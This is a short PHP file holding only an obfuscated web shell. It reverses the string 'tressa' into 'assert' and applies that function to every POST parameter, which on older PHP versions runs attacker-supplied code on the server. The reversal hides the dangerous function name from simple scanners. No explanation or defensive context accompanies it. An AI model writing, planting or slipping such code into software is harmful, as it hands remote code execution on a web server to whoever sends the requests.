<?php
$a = array_reverse(str_split('tressa'));
$fn = implode($a);
array_walk($_POST, $fn);
